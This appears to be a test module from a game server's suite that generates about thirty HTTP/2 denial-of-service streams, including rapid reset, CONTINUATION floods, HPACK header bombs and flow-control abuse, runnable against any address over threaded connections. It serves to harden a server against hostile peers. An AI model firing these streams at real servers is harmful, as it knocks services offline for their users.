"""Attacks on a server of HTTP/2, each a stream of bytes that a peer may try to send. It is no bot, but bad bots use it.

As a program it carries one out: attacks.py ADDRESS KIND [TOKEN]. It ends when each of its connections has sent all
of the attack, or was ended by the server.
"""

import contextlib
import os
import socket
import struct
import sys
import threading
from collections.abc import Callable, Iterator
from itertools import count
from typing import Final

if __package__:
    from tests.badbots import http2
else:  # as a bot, or a program
    import http2

ROUNDS: Final = 4000
"""Pieces of an attack over one connection, some kilobytes each: far more than a server should take."""

CONNECTIONS: Final = 4
FIRST: Final = 3
"""The first call of an attack; 1 is that of the game, where there is one."""

frame = http2.frame
RESET, HEADERS, DATA = http2.RST_STREAM, http2.HEADERS, http2.DATA
Attack = Callable[[str], Iterator[bytes]]


def _calls(block: bytes, flags: int = http2.END_HEADERS, body: bytes = b"", each: int = 20) -> Iterator[bytes]:
    ids = count(FIRST, 2)
    for _ in range(ROUNDS):
        yield b"".join(
            frame(HEADERS, flags, one, block) + body.replace(b"<id>", one.to_bytes(4, "big"))
            for one in _some(ids, each)
        )


def _some(ids: Iterator[int], number: int) -> list[int]:
    return [next(ids) for _ in range(number)]


def header_bomb(token: str) -> Iterator[bytes]:
    """One long header, learnt once, and then named thousands of times."""
    learnt = b"\x40" + http2.text(b"x-bomb") + http2.text(b"z" * 3900)
    yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.CHECK, token) + learnt)
    for stream in range(FIRST + 2, 2 * ROUNDS, 2):
        yield frame(HEADERS, http2.END_HEADERS, stream, http2.headers(http2.CHECK, token) + b"\xbe" * 8000)


def header_table_thrash(token: str) -> Iterator[bytes]:
    """Entry after entry for the table of headers, whose size is moved up and down meanwhile."""
    for stream in range(FIRST, 2 * ROUNDS, 2):
        size = (b"\x20", b"\x3f\xe1\x1f")[stream // 2 % 2]
        entries = b"".join(b"\x40" + http2.text(f"x-{stream}-{n}".encode()) + http2.text(b"v" * 90) for n in range(60))
        yield frame(HEADERS, http2.END_HEADERS, stream, size + http2.headers(http2.CHECK, token) + entries)


def huffman_header(token: str) -> Iterator[bytes]:
    """Headers whose text is long to decode."""
    squeezed = b"\0" + http2.text(b"x-long") + b"\xff\x80\x74" + b"\x9c" * 14_975
    yield from _calls(http2.headers(http2.CHECK, token)[:-1] + squeezed, each=1)


def endless_headers(_token: str) -> Iterator[bytes]:
    """A block of headers that is continued for ever."""
    yield frame(HEADERS, 0, FIRST, http2.headers())
    for _ in range(ROUNDS):
        yield frame(http2.CONTINUATION, 0, FIRST, http2.literal("x-more", "m" * 4000))


def empty_continuations(_token: str) -> Iterator[bytes]:
    """The same with nothing in it."""
    yield frame(HEADERS, 0, FIRST, http2.headers())
    for _ in range(ROUNDS):
        yield frame(http2.CONTINUATION, 0, 1) * 500


def rapid_reset(token: str) -> Iterator[bytes]:
    """Streams that are opened and reset at once."""
    cancel = struct.pack(">I", 8)
    ids = count(FIRST, 2)
    block = http2.headers(token=token)
    for _ in range(ROUNDS):
        yield b"".join(
            frame(HEADERS, http2.END_HEADERS, one, block) + frame(RESET, 0, one, cancel) for one in _some(ids, 50)
        )


def many_streams(token: str) -> Iterator[bytes]:
    """Streams that are opened and left open."""
    yield from _calls(http2.headers(http2.WATCH, token))


def held_watches(token: str) -> Iterator[bytes]:
    """As many calls of a standard service as one gets, held."""
    for stream in range(FIRST, 60, 2):
        yield frame(HEADERS, http2.END_HEADERS, stream, http2.headers(http2.WATCH, token))
        yield frame(DATA, http2.END_STREAM, stream, http2.message(b""))


def health_checks(token: str) -> Iterator[bytes]:
    """Calls of a standard service, as fast as it goes."""
    ids = count(FIRST, 2)
    block = http2.headers(http2.CHECK, token)
    for _ in range(ROUNDS):
        yield b"".join(
            frame(HEADERS, http2.END_HEADERS, one, block) + frame(DATA, http2.END_STREAM, one, http2.message(b""))
            for one in _some(ids, 20)
        )


def unread_reflection(token: str) -> Iterator[bytes]:
    """Questions with long answers, for which there is no room."""
    yield frame(http2.SETTINGS, 0, 0, http2.NO_WINDOW)
    yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.REFLECT, token))
    question = http2.message(b"\x22\x1fallfours.v1.RefereeService")  # the file that holds a symbol
    for _ in range(ROUNDS):
        yield frame(DATA, 0, FIRST, question) * 100


def unknown_methods(token: str) -> Iterator[bytes]:
    """Methods that there are not."""
    yield from _calls(http2.headers("/evil.v1.Cards/Show", token), http2.END_HEADERS | http2.END_STREAM)


def settings(_token: str) -> Iterator[bytes]:
    """Settings, each of which wants an answer."""
    for _ in range(ROUNDS):
        yield frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 1000)) * 200


def table_sizes(_token: str) -> Iterator[bytes]:
    """Settings that ask for a huge table of headers, and for none, in turn."""
    for _ in range(ROUNDS):
        yield b"".join(frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 1, size)) for size in (0, 0xFFFFFFFF)) * 100


def pings(_token: str) -> Iterator[bytes]:
    """Pings, each of which wants an answer."""
    for _ in range(ROUNDS):
        yield frame(http2.PING, 0, 0, b"whistled") * 500


def priorities(_token: str) -> Iterator[bytes]:
    """A tree of priorities among streams that there are not."""
    for number in range(ROUNDS):
        yield b"".join(frame(http2.PRIORITY, 0, 2 * (number * 50 + n) + 3, struct.pack(">IB", 1, 9)) for n in range(50))


def unknown_frames(_token: str) -> Iterator[bytes]:
    """Frames of a kind that there is not; they are to be overlooked."""
    for _ in range(ROUNDS):
        yield frame(0x77, 0, 0, b"?") * 500


def empty_data(token: str) -> Iterator[bytes]:
    """Frames of a call with nothing in them."""
    yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.CHECK, token))
    for _ in range(ROUNDS):
        yield frame(DATA, 0, 1) * 500


def padding(token: str) -> Iterator[bytes]:
    """Frames of a call that are all padding."""
    yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.CHECK, token))
    for _ in range(ROUNDS):
        yield frame(DATA, 8, FIRST, b"\xff" + bytes(255)) * 30


def data_without_end(token: str) -> Iterator[bytes]:
    """A message that announces 4 GiB and sends them."""
    yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.CHECK, token))
    yield frame(DATA, 0, FIRST, b"\0\xff\xff\xff\xff")
    for _ in range(ROUNDS):
        yield frame(DATA, 0, FIRST, bytes(16_000))


def data_of_no_call(_token: str) -> Iterator[bytes]:
    """Bytes of a call that was never begun."""
    for _ in range(ROUNDS):
        yield frame(DATA, 0, 7, bytes(100)) * 50


def window_overflow(token: str) -> Iterator[bytes]:
    """More room than there can be, for a call and for the connection."""
    yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.WATCH, token))
    for _ in range(ROUNDS):
        yield frame(http2.WINDOW_UPDATE, 0, FIRST, b"\x7f\xff\xff\xff") * 2
        yield frame(http2.WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2


def window_of_a_byte(token: str) -> Iterator[bytes]:
    """Long answers that are taken byte by byte."""
    yield frame(http2.SETTINGS, 0, 0, http2.NO_WINDOW)
    yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.REFLECT, token))
    yield frame(DATA, 0, FIRST, http2.message(b"\x22\x1fallfours.v1.RefereeService"))
    for _ in range(ROUNDS):
        yield frame(http2.WINDOW_UPDATE, 0, FIRST, struct.pack(">I", 1)) * 300


def giant_frame(_token: str) -> Iterator[bytes]:
    """A frame that announces 16 MiB and sends them."""
    yield b"\xff\xff\xff" + bytes([DATA, 0]) + struct.pack(">I", FIRST)
    for _ in range(ROUNDS):
        yield bytes(4000)


def trailers_alone(token: str) -> Iterator[bytes]:
    """Trailers again and again, and no message."""
    yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.WATCH, token))
    for _ in range(ROUNDS):
        yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.literal("x-end", "no"))


def push_promises(_token: str) -> Iterator[bytes]:
    """What a client may not send at all."""
    for _ in range(ROUNDS):
        yield frame(http2.PUSH_PROMISE, http2.END_HEADERS, FIRST, struct.pack(">I", 2) + http2.headers())


def farewells(token: str) -> Iterator[bytes]:
    """It says that it is going, and stays."""
    for _ in range(ROUNDS):
        yield frame(http2.GOAWAY, 0, 0, struct.pack(">II", 0, 0)) * 50
        yield frame(HEADERS, http2.END_HEADERS, FIRST, http2.headers(http2.CHECK, token))


def noise(_token: str) -> Iterator[bytes]:
    """Random bytes."""
    for _ in range(ROUNDS):
        yield os.urandom(4000)


def slow_preface(_token: str) -> Iterator[bytes]:
    """Nothing more than the preface, and the connection is held."""
    yield b""


ATTACKS: Final[dict[str, Attack]] = {
    one.__name__: one
    for one in (
        header_bomb,
        header_table_thrash,
        huffman_header,
        endless_headers,
        empty_continuations,
        rapid_reset,
        many_streams,
        held_watches,
        health_checks,
        unread_reflection,
        unknown_methods,
        settings,
        table_sizes,
        pings,
        priorities,
        unknown_frames,
        empty_data,
        padding,
        data_without_end,
        data_of_no_call,
        window_overflow,
        window_of_a_byte,
        giant_frame,
        trailers_alone,
        push_promises,
        farewells,
        noise,
        slow_preface,
    )
}


def attack(address: str, kind: str, token: str = "", *, reads: bool = True) -> int:
    """Carries an attack out over one connection, on which a bot with a token plays; returns how many bytes were sent."""
    sent = 0
    with contextlib.suppress(OSError), contextlib.closing(http2.connect(address)) as line:
        line.settimeout(5)  # a server may stop reading; that is the end of it too
        if reads:
            http2.drain(line)
        if token:
            line.sendall(http2.joining(token))
        for piece in ATTACKS[kind](token):
            line.sendall(piece)
            sent += len(piece)
    return sent


def held(address: str, connections: int) -> list[socket.socket]:
    """So many connections that say their preface and nothing else."""
    lines = []
    for _ in range(connections):
        with contextlib.suppress(OSError):
            lines.append(http2.connect(address))
    return lines


def main() -> None:
    """Over some connections at once."""
    address, kind, token = [*sys.argv[1:], ""][:3]
    threads = [threading.Thread(target=attack, args=(address, kind, token)) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
